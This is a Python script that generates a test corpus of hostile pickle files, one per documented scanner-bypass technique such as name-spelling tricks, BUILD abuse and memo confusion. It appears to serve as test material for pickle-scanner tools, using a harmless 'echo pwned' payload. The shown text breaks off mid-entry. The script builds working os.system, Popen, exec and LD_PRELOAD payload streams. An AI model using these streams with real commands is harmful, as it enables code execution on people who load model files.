#!/usr/bin/env python3
"""Writes the technique corpus of corpus/hostile/: one or more hostile files per known
attack technique on pickle-based model files, and the index that says what each is.

    python3 corpus/hostile/generate_techniques.py            # write, then self-check
    python3 corpus/hostile/generate_techniques.py --no-check # write only

Standard library only (Python 3.11); /work/venv/bin/python is used, when present, for
one thing: LZ4-compressing a joblib file (the lz4 module). Deterministic: zip dates are
fixed, gzip mtime is 0.

It owns, and deletes before writing, every `corpus/hostile/t_*` file, plus
`techniques.json` and `TECHNIQUES.md`. It never touches the other files of
corpus/hostile/ (written by corpus/generate.py, described by manifest.json), but
indexes them too: techniques.json lists every file of the folder.

Nothing here is ever unpickled. Every stream is assembled opcode by opcode (the
pickletools opcode names are in the helpers below); no `pickle.loads`, `torch.load`,
`joblib.load` or `numpy.load` is called on anything. The self-check only uses
`pickletools.genops` (a reader that does not import or call) and a small symbolic
stack machine to confirm that the globals each entry names are really spelled in its
stream. Payload commands are harmless (`echo pwned`) and paths sit under
/tmp/pickleproof-test.

techniques.json fields, per file:
  file       name inside corpus/hostile/
  class      technique class (global-spelling, build-abuse, memo-confusion,
             payload-then-malformed, indirection, nested-pickle, gadget, container,
             resource)
  technique  what the file does, precisely
  source     where the technique is documented (advisory, scanner test suite, report)
  expect     "unsafe": a correct scanner must report it unsafe (a scanner that gives up
             on a budget before reaching the payload may answer inconclusive, never
             clean); "inconclusive": nothing in it is provably dangerous (an unknown or
             unimportable name, an application-defined callable, or a resource a
             scanner should not spend), so the right answer is "could not decide" —
             never clean
  gadget     the dangerous `module.qualname`s involved, as CPython resolves them
             (Python 2 names mapped when the stream's protocol is below 3)
"""

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickletools
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from base64 import b64encode
from pathlib import Path

HERE = Path(__file__).resolve().parent
VENV_PYTHON = Path("/work/venv/bin/python")
CMD = "echo pwned"
TMP = "/tmp/pickleproof-test"
MAX_SIZE = 64 * 1024

# ---------------------------------------------------------------------------
# Opcodes (pickletools names)
# ---------------------------------------------------------------------------
MARK = b"("             # MARK
STOP = b"."             # STOP
POP = b"0"              # POP
POP_MARK = b"1"         # POP_MARK
DUP = b"2"              # DUP
NONE = b"N"             # NONE
NEWTRUE = b"\x88"       # NEWTRUE
NEWFALSE = b"\x89"      # NEWFALSE
REDUCE = b"R"           # REDUCE
BUILD = b"b"            # BUILD
INST = b"i"             # INST
OBJ = b"o"              # OBJ
NEWOBJ = b"\x81"        # NEWOBJ
NEWOBJ_EX = b"\x92"     # NEWOBJ_EX
GLOBAL = b"c"           # GLOBAL
STACK_GLOBAL = b"\x93"  # STACK_GLOBAL
EMPTY_TUPLE = b")"      # EMPTY_TUPLE
TUPLE = b"t"            # TUPLE
TUPLE1 = b"\x85"        # TUPLE1
TUPLE2 = b"\x86"        # TUPLE2
TUPLE3 = b"\x87"        # TUPLE3
EMPTY_LIST = b"]"       # EMPTY_LIST
APPEND = b"a"           # APPEND
APPENDS = b"e"          # APPENDS
EMPTY_DICT = b"}"       # EMPTY_DICT
SETITEM = b"s"          # SETITEM
SETITEMS = b"u"         # SETITEMS
MEMOIZE = b"\x94"       # MEMOIZE
EXT1 = b"\x82"          # EXT1
EXT2 = b"\x83"          # EXT2
EXT4 = b"\x84"          # EXT4
BINPERSID = b"Q"        # BINPERSID


def PROTO(n):           # PROTO n
    return b"\x80" + bytes([n])


def FRAME(n):           # FRAME (8-byte little-endian length)
    return b"\x95" + struct.pack("<Q", n)


def BINPUT(i):          # BINPUT (1-byte index)
    return b"q" + bytes([i])


def BINGET(i):          # BINGET (1-byte index)
    return b"h" + bytes([i])


def LONG_BINPUT(i):     # LONG_BINPUT (4-byte index)
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i):     # LONG_BINGET (4-byte index)
    return b"j" + struct.pack("<I", i)


def PUT(text):          # PUT (decimal text line)
    return b"p" + text.encode() + b"\n"


def GET(text):          # GET (decimal text line)
    return b"g" + text.encode() + b"\n"


def sbu(s):             # SHORT_BINUNICODE
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):              # BINUNICODE (4-byte length)
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def bu8(s):             # BINUNICODE8 (8-byte length)
    b = s.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def uni(s):             # UNICODE (raw-unicode-escape text line)
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def string(s):          # STRING (quoted text line; a str under the default ASCII encoding)
    return b"S'" + s.encode("ascii") + b"'\n"


def binstring(s):       # BINSTRING (4-byte length)
    b = s.encode("ascii")
    return b"T" + struct.pack("<I", len(b)) + b


def short_binstring(s):  # SHORT_BINSTRING
    b = s.encode("ascii")
    return b"U" + bytes([len(b)]) + b


def bbytes(b):          # SHORT_BINBYTES / BINBYTES
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def glob(module, name):  # GLOBAL (text lines)
    return GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module, name):  # STACK_GLOBAL from two SHORT_BINUNICODE
    return sbu(module) + sbu(name) + STACK_GLOBAL


# ---------------------------------------------------------------------------
# A tiny assembler: values -> opcodes
# ---------------------------------------------------------------------------
class G:
    """A global reference `module.name` (STACK_GLOBAL at protocol 4+, GLOBAL below)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """`func(*args)`: func, then the argument tuple, then REDUCE."""

    def __init__(self, func, *args):
        self.func, self.args = func, args


class Raw:
    def __init__(self, b):
        self.b = b


def getattr_(obj, name):
    return Call(G("builtins", "getattr"), obj, name)


def enc(x, proto=4):
    if isinstance(x, Raw):
        return x.b
    if isinstance(x, G):
        return sglob(x.module, x.name) if proto >= 4 else glob(x.module, x.name)
    if isinstance(x, Call):
        return enc(x.func, proto) + enc(tuple(x.args), proto) + REDUCE
    if x is None:
        return NONE
    if x is True or x is False:
        if proto >= 2:
            return NEWTRUE if x else NEWFALSE
        return b"I01\n" if x else b"I00\n"
    if isinstance(x, int):
        if proto >= 1 and 0 <= x < 256:
            return b"K" + bytes([x])                       # BININT1
        if proto >= 1 and -(2 ** 31) <= x < 2 ** 31:
            return b"J" + struct.pack("<i", x)             # BININT
        return b"I" + str(x).encode() + b"\n"              # INT
    if isinstance(x, float):
        return b"G" + struct.pack(">d", x)                  # BINFLOAT
    if isinstance(x, str):
        if proto >= 4 and len(x.encode()) < 256:
            return sbu(x)
        if proto >= 1:
            return bu(x)
        return uni(x)
    if isinstance(x, bytes):
        assert proto >= 3, "bytes need protocol 3"
        return bbytes(x)
    if isinstance(x, tuple):
        if proto >= 2 and len(x) <= 3:
            if not x:
                return EMPTY_TUPLE
            return b"".join(enc(i, proto) for i in x) + [TUPLE1, TUPLE2, TUPLE3][len(x) - 1]
        return MARK + b"".join(enc(i, proto) for i in x) + TUPLE
    if isinstance(x, list):
        if proto == 0:
            return MARK + b"l" + b"".join(enc(i, proto) + APPEND for i in x)  # MARK LIST, APPEND
        if not x:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(enc(i, proto) for i in x) + APPENDS
    if isinstance(x, dict):
        if proto == 0:
            return MARK + b"d" + b"".join(enc(k, proto) + enc(v, proto) + SETITEM for k, v in x.items())
        if not x:
            return EMPTY_DICT
        return EMPTY_DICT + MARK + b"".join(enc(k, proto) + enc(v, proto) for k, v in x.items()) + SETITEMS
    raise TypeError(type(x))


def pkl(value, proto=4):
    """A whole stream: PROTO (for protocol 2+), the value, STOP."""
    head = PROTO(proto) if proto >= 2 else b""
    return head + enc(value, proto) + STOP


def call(module, name, *args, proto=4):
    return pkl(Call(G(module, name), *args), proto)


# The inner pickle carried by the nested-pickle files, and by containers.
INNER = call("os", "system", "echo pwned-inner", proto=2)
MALICIOUS_P2 = call("os", "system", CMD, proto=2)
MALICIOUS_P4 = call("os", "system", CMD, proto=4)

# ---------------------------------------------------------------------------
# Sources (short citations)
# ---------------------------------------------------------------------------
PS = "picklescan (mmaitre314/picklescan) tests/init_data_files.py"
PS_LIST = "picklescan src/picklescan/scanner.py _unsafe_globals"
FK = "fickling (trailofbits/fickling) test/test_bypasses.py"
FK_LIST = "fickling fickle.py UNSAFE_IMPORTS / analysis.py UnsafeImportsML"
MA = "ModelAudit (promptfoo/modelaudit)"
MA_POC = "ModelAudit tests/assets/pickles/bypass_pocs/gen_bypass_v4.py"
MA_LIST = "ModelAudit modelaudit/detectors/suspicious_symbols.py SUSPICIOUS_GLOBALS"
MS = "modelscan (protectai/modelscan) settings.py unsafe_globals"
CPY = "CPython Lib/pickle.py / Modules/_pickle.c"
CPY_COMPAT = "CPython Lib/_compat_pickle.py (fix_imports mapping, protocol < 3)"


def ps_ghsa(g):
    return f"picklescan advisory {g} (tests/data2/{g}.pkl)"


# ---------------------------------------------------------------------------
# Entries
# ---------------------------------------------------------------------------
ENTRIES = []
WRITTEN = []


def add(file, data, cls, technique, source, expect, gadget, names=None, streams=None):
    """Write t_<file> and index it. `names` are the globals the self-check must find
    spelled in the stream (default: gadget); `streams` overrides which byte strings are
    checked (default: the file itself, for .pkl files)."""
    assert file.startswith("t_"), file
    assert expect in ("unsafe", "inconclusive")
    assert len(data) <= MAX_SIZE, f"{file}: {len(data)} bytes"
    (HERE / file).write_bytes(data)
    WRITTEN.append(file)
    if isinstance(gadget, str):
        gadget = [gadget] if gadget else []
    ENTRIES.append({
        "file": file, "class": cls, "technique": technique, "source": source,
        "expect": expect, "gadget": gadget,
        "_names": gadget if names is None else names,
        "_streams": streams,
    })


# ===========================================================================
# 1. global-spelling
# ===========================================================================
def global_spelling():
    C = "global-spelling"
    args = sbu(CMD) + TUPLE1 + REDUCE + STOP
    add("t_gs_stack_global_binunicode.pkl",
        PROTO(4) + bu("os") + bu("system") + STACK_GLOBAL + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL os.system with both names pushed by BINUNICODE (4-byte length) instead of SHORT_BINUNICODE",
        "modelscan PR #313 (STACK_GLOBAL name-opcode coverage); " + MA_POC + " POC 35-36", "unsafe", "os.system")
    add("t_gs_stack_global_binunicode8.pkl",
        PROTO(4) + bu8("os") + bu8("system") + STACK_GLOBAL + bu8(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL os.system with names pushed by BINUNICODE8 (8-byte length)",
        MA_POC + " POC 36 (STACK_GLOBAL+REDUCE via BINUNICODE8)", "unsafe", "os.system")
    add("t_gs_stack_global_unicode_text.pkl",
        PROTO(4) + uni("posix") + uni("system") + STACK_GLOBAL + uni(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL posix.system with names pushed by the protocol-0 UNICODE text opcode (raw-unicode-escape line)",
        PS + " malicious11.pkl (UNICODE names into STACK_GLOBAL)", "unsafe", "posix.system")
    add("t_gs_stack_global_string.pkl",
        string("os") + string("system") + STACK_GLOBAL + string(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL os.system whose names are protocol-0 STRING opcodes (decoded to str under the default ASCII encoding); no PROTO",
        ps_ghsa("GHSA-9gvj-pp9x-gcfr") + " / malicious23.pkl (STRING into STACK_GLOBAL)", "unsafe", "os.system")
    add("t_gs_stack_global_binstring.pkl",
        PROTO(2) + binstring("subprocess") + short_binstring("getoutput") + STACK_GLOBAL
        + short_binstring(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL subprocess.getoutput with names from BINSTRING and SHORT_BINSTRING (Python 2 str opcodes, decoded as str)",
        "modelscan PR #313 ('STACK_GLOBAL support for classic string opcodes STRING, BINSTRING, SHORT_BINSTRING')",
        "unsafe", "subprocess.getoutput")
    add("t_gs_stack_global_long_binget.pkl",
        PROTO(4) + sbu("os") + LONG_BINPUT(70000) + POP + sbu("popen") + LONG_BINPUT(3) + POP
        + LONG_BINGET(70000) + LONG_BINGET(3) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL os.popen whose names come from LONG_BINPUT/LONG_BINGET (4-byte memo indices 70000 and 3)",
        "picklescan issue #22 (memo-sourced STACK_GLOBAL names); " + CPY, "unsafe", "os.popen")
    add("t_gs_inst_py2_builtin_exec.pkl",
        b"(S'print(\"pwned\")'\ni__builtin__\nexec\n.",
        C, "INST __builtin__.exec (Python 2 module name, mapped to builtins.exec at protocol 0): INST calls the class with the MARKed args",
        PS + " malicious10.pkl (INST opcode)", "unsafe", "builtins.exec")
    add("t_gs_obj_stack_global_pop.pkl",
        PROTO(4) + MARK + sglob("smtplib", "SMTP") + sbu("127.0.0.1") + OBJ + POP + NONE + STOP,
        C, "OBJ call of smtplib.SMTP('127.0.0.1') (class from STACK_GLOBAL), result discarded by POP; the stream returns None",
        FK + " GHSA-mxhj-88fx-4pcv (OBJ + POP call invisibility)", "unsafe", "smtplib.SMTP")
    add("t_gs_newobj_ex_popen.pkl",
        PROTO(4) + sglob("subprocess", "Popen") + enc((["echo", "pwned"],)) + enc({"shell": False})
        + NEWOBJ_EX + STOP,
        C, "NEWOBJ_EX subprocess.Popen with args (['echo','pwned'],) and kwargs {'shell': False} (cls.__new__(cls, *args, **kwargs))",
        "ModelAudit PR #581 ('Add NEWOBJ_EX to all opcode check lists where it was missing')", "unsafe", "subprocess.Popen")
    add("t_gs_py2_commands_getoutput.pkl",
        PROTO(2) + glob("commands", "getoutput") + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "Python 2 module commands.getoutput at protocol 2: IMPORT_MAPPING turns it into subprocess.getoutput",
        CPY_COMPAT + "; " + PS_LIST + " ('commands': Python 2 precursor to subprocess); " + MA_LIST,
        "unsafe", "subprocess.getoutput", names=["subprocess.getoutput"])
    add("t_gs_py2_thread_start_new_thread.pkl",
        PROTO(2) + glob("thread", "start_new_thread") + glob("os", "system") + bu(CMD) + TUPLE1 + TUPLE2
        + REDUCE + STOP,
        C, "Python 2 module thread.start_new_thread(os.system, ('echo pwned',)) at protocol 2: mapped to _thread.start_new_thread",
        CPY_COMPAT + "; " + MA_POC + " POC 30 (_thread.start_new_thread)", "unsafe",
        ["_thread.start_new_thread", "os.system"])
    add("t_gs_py2_urllib2_urlopen.pkl",
        b"curllib2\nurlopen\n(S'http://127.0.0.1:9/pickleproof-test'\ntR.",
        C, "Python 2 module urllib2.urlopen at protocol 0: mapped to urllib.request.urlopen (network fetch)",
        CPY_COMPAT + "; " + PS + " reduce_urllib_request_urlopen", "unsafe", "urllib.request.urlopen")
    # second PROTO mid-stream
    add("t_gs_second_proto_enables_py2_mapping.pkl",
        PROTO(4) + NONE + POP + PROTO(2) + sglob("commands", "getstatusoutput") + sbu(CMD) + TUPLE1
        + REDUCE + STOP,
        C, "starts PROTO 4, then a second PROTO 2 mid-stream: CPython's protocol (and so fix_imports) follows the last PROTO, so "
        "STACK_GLOBAL commands.getstatusoutput is mapped to subprocess.getstatusoutput",
        CPY + " (load_proto sets self.proto on every PROTO); " + CPY_COMPAT, "unsafe", "subprocess.getstatusoutput",
        names=["subprocess.getstatusoutput"])
    add("t_gs_second_proto_disables_py2_mapping.pkl",
        PROTO(2) + NONE + POP + PROTO(3) + glob("__builtin__", "eval") + bu("1+1") + TUPLE1 + REDUCE + STOP,
        C, "starts PROTO 2, then PROTO 3 mid-stream: __builtin__.eval is no longer mapped (CPython fails to import __builtin__); "
        "a scanner that keeps the first protocol maps it to builtins.eval. Dangerous by name either way",
        CPY + " (load_proto); " + CPY_COMPAT, "unsafe", "__builtin__.eval", names=["__builtin__.eval"])
    add("t_gs_second_proto_enables_dotted_name.pkl",
        PROTO(2) + NONE + POP + PROTO(4) + glob("pathlib", "os.system") + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "starts PROTO 2, then PROTO 4 mid-stream: the GLOBAL name 'os.system' under module pathlib is resolved as a dotted "
        "path only at protocol 4+, giving os.system through pathlib's own 'os' attribute",
        FK + " GHSA-5j3x-jp52-966f (dotted attribute via a stdlib module); " + CPY + " find_class", "unsafe",
        ["pathlib.os.system", "os.system"], names=["pathlib.os.system"])
    add("t_gs_dotted_pathlib_os_system.pkl",
        PROTO(4) + sglob("pathlib", "os.system") + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL pathlib + 'os.system': a dotted name reaches os.system through the os module imported by pathlib",
        FK + " GHSA-5j3x-jp52-966f (test_dotted_attr_via_stdlib_module)", "unsafe",
        ["pathlib.os.system", "os.system"], names=["pathlib.os.system"])
    add("t_gs_dotted_builtins_dict_get.pkl",
        PROTO(4) + sglob("builtins", "__dict__.get") + sbu("eval") + TUPLE1 + REDUCE
        + sbu("print('pwned')") + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL builtins + '__dict__.get' (bound dict.get of the builtins namespace) called with 'eval', the result called "
        "with a code string: builtins.eval without the name eval in any global",
        FK + " GHSA-5j3x-jp52-966f (dotted names); " + CPY + " _getattribute", "unsafe",
        ["builtins.__dict__.get", "builtins.eval"], names=["builtins.__dict__.get"])
    add("t_gs_frame_straddle_global.pkl",
        PROTO(5) + FRAME(7) + glob("os", "system") + uni(CMD) + TUPLE1 + REDUCE + STOP,
        C, "protocol 5 FRAME declaring 7 bytes while the GLOBAL os.system line runs past the frame end: the C unpickler does not "
        "enforce frame boundaries and runs it, the pure-Python one refuses ('pickle exhausted before end of frame')",
        FK + " test_frame_boundary_straddle_variants (CPython issue 154848)", "unsafe", "os.system")
    add("t_gs_uppercase_module.pkl",
        b"cOS\nsystem\n(S'echo pwned'\ntR.",
        C, "GLOBAL OS.system (uppercase module): not importable on a case-sensitive system, but a scanner that case-folds names "
        "and one that does not disagree; an allowlist must still refuse it",
        PS_LIST + " (exact-match module names); CVE-2025-10157 (JFrog: blocklist name matching bypass)", "unsafe", [],
        names=["OS.system"])
    add("t_gs_carriage_return_in_names.pkl",
        b"cos\r\nsystem\r\n(S'echo pwned'\ntR.",
        C, "GLOBAL line 'os\\r' / 'system\\r': CPython strips only the '\\n', so it imports a module named 'os\\r' (fails); a scanner "
        "that splits lines on \\r\\n or strips whitespace sees os.system",
        CPY + " load_global (readline()[:-1])", "unsafe", [], names=["os\r.system\r"])
    add("t_gs_whitespace_in_names.pkl",
        PROTO(4) + sglob("os ", " system") + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "STACK_GLOBAL 'os ' + ' system' (spaces kept by CPython, so the import fails); a scanner that trims names sees os.system",
        CPY + " find_class (names used verbatim)", "unsafe", [], names=["os . system"])


# ===========================================================================
# 2. build-abuse
# ===========================================================================
def build_abuse():
    C = "build-abuse"
    # module namespace overwritten by BUILD, then its attributes used as STACK_GLOBAL names
    add("t_build_module_dict_feeds_stack_global.pkl",
        PROTO(4)
        + sbu("json.decoder") + MEMOIZE + sbu("scanstring") + MEMOIZE + POP + POP      # memo 0, 1
        + sglob("json", "decoder") + MEMOIZE + POP                                    # memo 2: module json.decoder
        + BINGET(2) + EMPTY_DICT + BINGET(1) + sbu("builtins") + SETITEM + BUILD + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL                                        # -> 'builtins'
        + BINGET(2) + EMPTY_DICT + BINGET(1) + sbu("eval") + SETITEM + BUILD + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL                                        # -> 'eval'
        + STACK_GLOBAL                                                                # builtins.eval
        + sbu("print('pwned')") + TUPLE1 + REDUCE + STOP,
        C, "BUILD with a state dict on the module json.decoder (obtained by GLOBAL json.decoder) rewrites its namespace: "
        "json.decoder.scanstring is set to 'builtins', read back with STACK_GLOBAL, then set to 'eval' and read back: the final "
        "STACK_GLOBAL gets the computed names builtins.eval, which never appear as a global",
        PS + " sys_module_override_sploit.pkl (same chain on torch._utils)", "unsafe",
        ["json.decoder", "builtins.eval"], names=["json.decoder", "json.decoder.scanstring"])
    add("t_build_dict_state_on_module.pkl",
        PROTO(2) + glob("json", "decoder") + enc({"JSONDecoder": G("os", "system")}, 2) + BUILD + POP
        + glob("json.decoder", "JSONDecoder") + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "BUILD with a state dict on a module (json.decoder): the module's __dict__ gets JSONDecoder = os.system; the later "
        "GLOBAL json.decoder.JSONDecoder then resolves to os.system and is called",
        CPY + " load_build (inst.__dict__ update); " + PS + " sys_module_override_sploit.pkl", "unsafe",
        ["json.decoder", "os.system"], names=["json.decoder", "os.system", "json.decoder.JSONDecoder"])
    add("t_build_slotstate_setattr_function.pkl",
        PROTO(2) + glob("json", "dumps") + enc((None, {"__kwdefaults__": {"default": G("builtins", "exec")}}), 2)
        + BUILD + POP + NONE + STOP,
        C, "BUILD with a (None, slotstate) tuple on the function json.dumps: setattr(json.dumps, '__kwdefaults__', "
        "{'default': builtins.exec}) — every later json.dumps of an unknown type calls exec on it",
        CPY + " load_build (slotstate -> setattr)", "unsafe", ["json.dumps", "builtins.exec"])
    add("t_build_dict_state_on_function.pkl",
        PROTO(2) + glob("json", "loads") + enc({"__wrapped__": G("os", "system")}, 2) + BUILD + POP + NONE + STOP,
        C, "BUILD with a state dict on the function json.loads: writes __wrapped__ = os.system into the function's __dict__ "
        "(process-wide mutation of a global; inspect.unwrap now leads to os.system)",
        CPY + " load_build (inst.__dict__ update)", "unsafe", ["json.loads", "os.system"])
    add("t_build_instance_setstate_planted.pkl",
        PROTO(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
        + enc({"__setstate__": G("os", "system")}, 2) + BUILD
        + bu(CMD) + BUILD + STOP,
        C, "first BUILD puts '__setstate__': os.system into an argparse.Namespace's instance dict; the second BUILD looks up "
        "__setstate__ with getattr on the instance, finds os.system and calls os.system('echo pwned') — a call with no REDUCE",
        CPY + " load_build (getattr(inst, '__setstate__')); " + PS + " sys_module_override_sploit.pkl (BUILD as a write primitive)",
        "unsafe", ["argparse.Namespace", "os.system"])
    add("t_build_class_setstate_replaced.pkl",
        PROTO(2) + glob("argparse", "Namespace") + enc((None, {"__setstate__": G("os", "system")}), 2) + BUILD + POP
        + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + bu(CMD) + BUILD + STOP,
        C, "BUILD (None, {'__setstate__': os.system}) on the class argparse.Namespace replaces __setstate__ for the whole class; "
        "a fresh Namespace then BUILDs with 'echo pwned', which calls os.system",
        CPY + " load_build", "unsafe", ["argparse.Namespace", "os.system"])
    add("t_build_class_reduce_replaced.pkl",
        PROTO(2) + glob("argparse", "Namespace")
        + enc((None, {"__reduce_ex__": G("builtins", "exec"), "__reduce__": G("builtins", "exec")}), 2)
        + BUILD + POP + NONE + STOP,
        C, "BUILD slotstate on the class argparse.Namespace replaces __reduce__/__reduce_ex__ with builtins.exec: "
        "any later copy/pickle of a Namespace in the process runs exec",
        CPY + " load_build; copyreg/copy.deepcopy call __reduce_ex__", "unsafe", ["argparse.Namespace", "builtins.exec"])
    add("t_build_dunder_class_in_dict_state.pkl",
        PROTO(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
        + enc({"__class__": G("subprocess", "Popen"), "args": ["echo", "pwned"]}, 2) + BUILD + STOP,
        C, "an allowed-looking class instance (argparse.Namespace) whose BUILD state dict carries a '__class__' key naming "
        "subprocess.Popen (stored in __dict__; a naive reconstructor or viewer may trust it as the object's type)",
        CPY + " load_build; torch weights_only allowlists commonly include argparse.Namespace", "unsafe",
        ["argparse.Namespace", "subprocess.Popen"])
    add("t_build_dunder_class_slotstate.pkl",
        PROTO(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
        + enc((None, {"__class__": G("subprocess", "Popen")}), 2) + BUILD + STOP,
        C, "BUILD slotstate setattr(inst, '__class__', subprocess.Popen) really changes the instance's type (compatible layouts): "
        "the returned object is a subprocess.Popen whose methods/__del__ run later",
        CPY + " load_build (slotstate -> setattr)", "unsafe", ["argparse.Namespace", "subprocess.Popen"])
    add("t_build_setitem_sys_modules.pkl",
        PROTO(4) + sglob("logging", "sys.modules") + sbu("json") + sglob("pathlib", "os") + SETITEM + POP
        + sglob("json", "system") + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "SETITEM on sys.modules (reached as the dotted global logging.sys.modules) maps 'json' to the os module "
        "(pathlib.os); the later STACK_GLOBAL json.system then resolves to os.system",
        PS + " sys_module_override_sploit.pkl; Balsn CTF 2019 pyshv sys.modules override", "unsafe",
        ["logging.sys.modules", "pathlib.os", "os.system"], names=["logging.sys.modules", "pathlib.os", "json.system"])
    add("t_build_setitem_os_environ.pkl",
        PROTO(2) + glob("os", "environ") + bu("LD_PRELOAD") + bu(TMP + "/evil.so") + SETITEM + POP + NONE + STOP,
        C, "SETITEM on a non-dict mapping global (os.environ): its __setitem__ calls putenv, setting LD_PRELOAD for every "
        "child process",
        "CVE-2026-24747 (SETITEM/SETITEMS applied to non-dict objects); " + CPY + " load_setitem", "unsafe", "os.environ")
    add("t_build_builtins_setattr_module.pkl",
        PROTO(4) + enc(Call(G("builtins", "setattr"), G("json", "decoder"), "JSONDecoder", G("os", "system")))
        + POP + sglob("json.decoder", "JSONDecoder") + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "builtins.setattr(json.decoder, 'JSONDecoder', os.system) — the REDUCE form of a BUILD slotstate write — then "
        "STACK_GLOBAL json.decoder.JSONDecoder calls os.system",
        MA_LIST + " (builtins setattr)", "unsafe", ["builtins.setattr", "json.decoder", "os.system"],
        names=["builtins.setattr", "json.decoder", "os.system", "json.decoder.JSONDecoder"])


# ===========================================================================
# 3. memo-confusion
# ===========================================================================
def memo_confusion():
    C = "memo-confusion"
    add("t_memo_binput_memoize_mix.pkl",
        PROTO(4)
        + binstring("os") + BINPUT(0) + binstring("system") + BINPUT(1)
        + sbu("torch._utils") + MEMOIZE + sbu("_rebuild_tensor_v2") + MEMOIZE
        + POP + POP + POP + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "BINPUT 0/1 hold 'os'/'system', then two MEMOIZEs (indices 2 and 3 in CPython) hold 'torch._utils'/'_rebuild_tensor_v2'; "
        "a scanner that numbers only MEMOIZE thinks memo[0], memo[1] are the safe torch names. BINGET 0, 1 -> STACK_GLOBAL os.system",
        "picklescan issue #14 (Doyensec: memo dict confusion with mixed PUT/MEMOIZE)", "unsafe", "os.system")
    add("t_memo_text_put_decoy.pkl",
        uni("os") + PUT("2") + POP + uni("system") + PUT("3") + POP
        + uni("torch") + PUT("0") + POP + uni("LongStorage") + PUT("1") + POP
        + GET("2") + GET("3") + STACK_GLOBAL + MARK + uni(CMD) + TUPLE + REDUCE + STOP,
        C, "text PUT 2/3 store 'os'/'system', PUT 0/1 store a decoy torch.LongStorage; GET 2, GET 3 feed STACK_GLOBAL: "
        "the memo order differs from the order of appearance",
        PS + " malicious11.pkl (ImaginaryCTF 'Safe Pickle', picklescan issue #22)", "unsafe", "os.system")
    add("t_memo_memoize_overwrites_binput.pkl",
        PROTO(4)
        + sbu("builtins") + BINPUT(1) + POP          # memo {1: 'builtins'}, len 1
        + sbu("posix") + MEMOIZE + POP               # MEMOIZE stores at len(memo) = 1: overwrites 'builtins'
        + sbu("system") + BINPUT(0) + POP
        + BINGET(1) + BINGET(0) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "MEMOIZE stores at len(memo), not max index + 1: after BINPUT 1 the memo has one entry, so MEMOIZE overwrites "
        "index 1 ('builtins' -> 'posix'). A scanner that numbers MEMOIZE from the highest index sees builtins.system; "
        "CPython resolves posix.system",
        CPY + " load_memoize (memo[len(memo)]); picklescan issue #14", "unsafe", "posix.system")
    add("t_memo_memoize_after_sparse_put.pkl",
        PROTO(4)
        + sbu("subprocess") + BINPUT(5) + POP         # memo {5: ...}
        + sbu("getoutput") + MEMOIZE + POP            # stored at index 1 (len(memo)), not 6
        + BINGET(5) + BINGET(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "BINPUT 5 then MEMOIZE: CPython stores the MEMOIZE at index 1 (len(memo)); BINGET 1 fetches 'getoutput' "
        "(a scanner that assigns index 6 finds nothing at 1 and may give up)",
        CPY + " load_memoize", "unsafe", "subprocess.getoutput")
    add("t_memo_overwrite_benign_global.pkl",
        PROTO(2)
        + glob("collections", "OrderedDict") + BINPUT(0) + POP
        + glob("os", "system") + BINPUT(0) + POP
        + BINGET(0) + bu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "memo[0] first holds the benign collections.OrderedDict, then is overwritten by os.system; the REDUCE's callable comes "
        "from BINGET 0 (a scanner keeping the first PUT sees OrderedDict)",
        "picklescan issue #14; " + CPY + " load_binput (overwrite)", "unsafe", ["os.system"],
        names=["collections.OrderedDict", "os.system"])
    add("t_memo_get_from_discarded_branch.pkl",
        PROTO(4) + MARK + sbu("os") + BINPUT(0) + sbu("system") + BINPUT(1) + POP_MARK
        + EMPTY_DICT + sbu("weights") + EMPTY_LIST + SETITEM + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL + sbu(CMD) + TUPLE1 + REDUCE + STOP,
        C, "'os'/'system' are memoized inside a MARK group that POP_MARK discards; the memo keeps them, and a later BINGET 0/1 "
        "(in another part of the stream) rebuilds os.system",
        CPY + " (memo survives POP_MARK); picklescan issue #22", "unsafe", "os.system")
    add("t_memo_alias_callable.pkl",
        PROTO(2) + glob("os", "system") + BINPUT(7) + POP
        + enc({"state_dict": {"w": [1, 2, 3]}, "epoch": 3}, 2) + POP
        + BINGET(7) + bu(CMD) + TUPLE1 + REDUCE + STOP,
